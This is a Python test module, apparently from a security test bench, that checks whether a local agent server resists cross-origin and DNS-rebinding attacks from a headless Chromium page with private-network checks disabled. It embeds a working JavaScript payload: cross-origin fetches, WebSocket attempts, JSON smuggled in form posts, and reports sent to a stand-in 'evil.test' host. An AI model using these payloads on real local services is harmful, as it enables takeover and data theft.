"""Attacks a local server from web pages in Chromium: from another origin, and after DNS rebinding.

A rebound name points first to the attacker's server and then to ours. Here it always points to 127.0.0.2, where the
attacker's server forwards every connection except for its own page: our server receives exactly the same bytes.
"""

import asyncio
import json
import tempfile
from collections.abc import AsyncIterator, Sequence
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from typing import Final

from bench.prove.figure import NotHeld
from bench.support.browser.chromium import find_browser
from bench.support.shared_host.other_user import Attempts

_EVIL: Final = "evil.test"
_REBOUND: Final = "rebound.test"
_PAGE: Final = "/attack-page"
_PATIENCE: Final = 150.0
_LOOPBACK: Final = "127.0.0.1"
_REBOUND_ADDRESS: Final = "127.0.0.2"
# The claim is about the server: the browser's own checks of such requests are off, and not every browser has them.
_OFF: Final = (
    "BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,LocalNetworkAccessChecks,"
    "LocalNetworkAccessChecksWarn,PrivateNetworkAccessForWorkers,PrivateNetworkAccessForNavigations"
)
_CALLS: Final = (
    ("GET", "/v1/agents", ""),
    ("GET", "/v1/sessions", ""),
    ("GET", "/openapi.json", ""),
    ("GET", "/metrics", ""),
    ("GET", "/v1/models", ""),
    ("GET", "/_control/requests", ""),
    ("GET", "/api/v1/namespaces/default/workflows", ""),
    ("POST", "/v1/agents", '{"name": "theirs", "model": "m"}'),
    ("POST", "/v1/sessions", "{}"),
    ("POST", "/v1/messages", '{"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": "x"}]}'),
    ("POST", "/api/v1/namespaces/default/schedules/sweep%2Ffootplate/patch", '{"patch": {"pause": "theirs"}}'),
    ("PUT", "/_control/scripts/default", '{"replies": [[{"text": "theirs"}]]}'),
    ("DELETE", "/_control/requests", ""),
)
_SCRIPT: Final = """
const given = GIVEN;
const results = {tried: 0, achieved: []};
async function call(base, mode, [method, path, body], type) {
  results.tried += 1;
  const headers = body ? {"content-type": type} : {};
  const options = {method, mode, headers, body: body || undefined, signal: AbortSignal.timeout(3000)};
  try {
    const response = await fetch(base + path, options);
    if (response.ok) results.achieved.push(`${mode} ${method} ${base}${path}: ${response.status}`);
  } catch (error) {}
}
async function connect(base) {
  results.tried += 1;
  await new Promise((done) => {
    const protocols = ["footplate.v1", "footplate.key.guess"];
    const socket = new WebSocket(base.replace("http", "ws") + "/v1/sessions/sesn_x/ws", protocols);
    socket.onopen = () => { results.achieved.push(`WebSocket to ${base}`); done(); };
    socket.onerror = () => done();
    setTimeout(done, 4000);
  });
}
function submit(base, path) {
  results.tried += 1;
  const frame = document.createElement("iframe");
  frame.name = "f" + results.tried;
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", action: base + path, target: frame.name, enctype: "text/plain"});
  const field = document.createElement("input");
  Object.assign(field, {name: '{"name": "theirs", "model": "m", "x": "', value: '"}'});
  form.append(field);
  document.body.append(form);
  form.submit();
}
async function attack(base) {
  for (const one of given.calls) {
    for (const mode of given.modes) await call(base, mode, one, "text/plain");
    await call(base, "cors", one, "application/json");
  }
  await connect(base);
  submit(base, "/v1/agents");
  submit(base, "/api/v1/namespaces/default/schedules/sweep%2Ffootplate/patch");
  const image = new Image();
  results.tried += 1;
  await new Promise((done) => {
    image.onload = () => { results.achieved.push(`image of ${base}`); done(); };
    image.onerror = done;
    image.src = base + "/v1/agents";
    setTimeout(done, 4000);
  });
}
(async () => {
  await Promise.all(given.bases.map(attack));
  await new Promise((done) => setTimeout(done, 1000));
  await fetch(given.report, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
})();
"""


async def attack_by_web_pages(ports: Sequence[int]) -> Attempts:
    browser = find_browser()
    if browser is None:
        raise NotHeld("there is no Chromium on this machine (Debian: apt install chromium)")
    reports: asyncio.Queue[Attempts] = asyncio.Queue()
    async with AsyncExitStack() as ending:
        evil = await ending.enter_async_context(_serving(reports, _LOOPBACK, 0))
        report = f"http://{_EVIL}:{evil.port}/report"
        for port in ports:
            rebound = await ending.enter_async_context(_serving(reports, _REBOUND_ADDRESS, port))
            rebound.page = _page([f"http://{_REBOUND}:{port}"], report)
        frames = "".join(f'<iframe src="http://{_REBOUND}:{port}{_PAGE}"></iframe>' for port in ports)
        bases = [f"http://{host}:{port}" for port in ports for host in (_LOOPBACK, "localhost")]
        evil.page = _page(bases, report) + frames
        await ending.enter_async_context(_browsing(browser, f"http://{_EVIL}:{evil.port}{_PAGE}"))
        async with asyncio.timeout(_PATIENCE):
            found = [await reports.get() for _ in (evil, *ports)]
    return Attempts(sum(one.tried for one in found), [what for one in found for what in one.achieved])


def _page(bases: Sequence[str], report: str) -> str:
    modes = ["same-origin"] if len(bases) == 1 else ["no-cors"]
    given = {"bases": bases, "calls": _CALLS, "modes": modes, "report": report}
    return f"<!doctype html><body><script>{_SCRIPT.replace('GIVEN', json.dumps(given))}</script>"


@asynccontextmanager
async def _browsing(browser: str, page: str) -> AsyncIterator[None]:
    with tempfile.TemporaryDirectory() as profile:
        process = await asyncio.create_subprocess_exec(
            *(browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage"),
            *("--no-proxy-server", f"--user-data-dir={profile}", f"--disable-features={_OFF}"),
            f"--host-resolver-rules=MAP {_EVIL} {_LOOPBACK},MAP {_REBOUND} {_REBOUND_ADDRESS}",
            page,
            env={"PATH": "/usr/bin:/bin", "HOME": profile},
            stdin=asyncio.subprocess.DEVNULL,
            stdout=asyncio.subprocess.DEVNULL,
            stderr=asyncio.subprocess.DEVNULL,
        )
        try:
            yield
        finally:
            with suppress(ProcessLookupError):
                process.terminate()
            await process.wait()
            await asyncio.sleep(0.5)  # its helper processes still write to the profile


class _Attacker:
    """The attacker's server: serves its page, collects reports, and forwards everything else."""

    def __init__(self, reports: asyncio.Queue[Attempts], address: str) -> None:
        self._reports = reports
        self._address = address
        self.port = 0
        self.page = ""

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            head = await reader.readuntil(b"\r\n\r\n")
            method, path, *_ = head.split(b"\r\n", 1)[0].decode("latin-1").split()
            if path == _PAGE:
                await _respond(writer, self.page)
            elif path == "/report" and method == "POST":
                lines = [line.lower().partition(b":") for line in head.split(b"\r\n")]
                length = next(int(value) for name, _, value in lines if name == b"content-length")
                found = json.loads(await reader.readexactly(length))
                self._reports.put_nowait(Attempts(found["tried"], found["achieved"]))
                await _respond(writer, "")
            elif self._address == _REBOUND_ADDRESS:
                await self._forward(head, reader, writer)
        writer.close()

    async def _forward(self, head: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        theirs, ours = await asyncio.open_connection(_LOOPBACK, self.port)
        ours.write(head)
        await asyncio.gather(_copy(reader, ours), _copy(theirs, writer))


async def _copy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with suppress(OSError):
        while piece := await reader.read(65536):
            writer.write(piece)
            await writer.drain()
    writer.close()


async def _respond(writer: asyncio.StreamWriter, body: str) -> None:
    content = body.encode()
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(content)}\r\nConnection: close\r\n\r\n"
    writer.write(head.encode() + content)
    await writer.drain()


@asynccontextmanager
async def _serving(reports: asyncio.Queue[Attempts], address: str, port: int) -> AsyncIterator[_Attacker]:
    attacker = _Attacker(reports, address)
    server = await asyncio.start_server(attacker.serve, address, port)
    attacker.port = server.sockets[0].getsockname()[1]
    try:
        yield attacker
    finally:
        server.close()
